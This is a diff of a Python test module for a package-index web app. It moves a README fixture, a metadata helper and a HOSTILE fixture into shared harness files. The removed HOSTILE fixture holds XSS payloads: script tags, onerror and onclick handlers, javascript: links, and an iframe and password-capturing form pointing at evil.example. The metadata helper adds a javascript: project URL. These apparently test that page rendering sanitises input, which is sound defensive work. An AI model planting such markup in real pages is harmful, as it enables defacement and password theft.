@@ -23,46 +23,12 @@ from pypid.core.views import ChainSource, Filters
 from pypid.storage.interface import StorageError
 from pypid.web.people import PEOPLE_CSP
 from pypid.web.project_pages import DetailsRenderer, KeptPages
-from tests.distributions import make_sdist, make_wheel, metadata_text
+from tests.distributions import make_sdist, make_wheel
 from tests.fakes import twine_fields
-from tests.test_views import T0
-from tests.test_views import record as make_record
-from tests.test_web import _ServerMixin, basic
-
-README = """# Holy Grail
-
-Seek it with `grail.seek()`:
-
-```python
-import grail
-grail.seek(knights=3)
-```
-
-See [the docs](https://docs.example/grail/).
-"""
-
-HOSTILE = """# Fine title
-
-<script>document.title = "owned"</script>
-<img src="https://img.example/huge.png" onerror="alert(1)" width="99999" style="position:fixed">
-[click](javascript:alert(1))
-<a href="#" onclick="alert(1)">x</a>
-<style>body { display: none }</style>
-<iframe src="https://evil.example/"></iframe>
-<form action="https://evil.example/"><input name="password"></form>
-"""
-
-
-def rich_metadata(name, version, summary, readme=README, extra=()):
-    """Core metadata with a Markdown README and the fields the pages show."""
-    text = metadata_text(
-        name, version, summary=summary, requires_python=">=3.9",
-        requires_dist=["attrs>=22", 'rich; extra == "fancy"'],
-        extra_headers=["Description-Content-Type: text/markdown", "License-Expression: MIT",
-                       "Classifier: Programming Language :: Python :: 3",
-                       "Project-URL: Source, https://code.example/grail",
-                       "Project-URL: Trap, javascript:alert(1)", "Author: Arthur", *extra])
-    return text.replace("A test project.", readme)
+from tests.harness_people import HOSTILE, README, rich_metadata
+from tests.harness_records import T0
+from tests.harness_records import record as make_record
+from tests.harness_web import _ServerMixin, basic
 
 
 class _Anchors(HTMLParser):
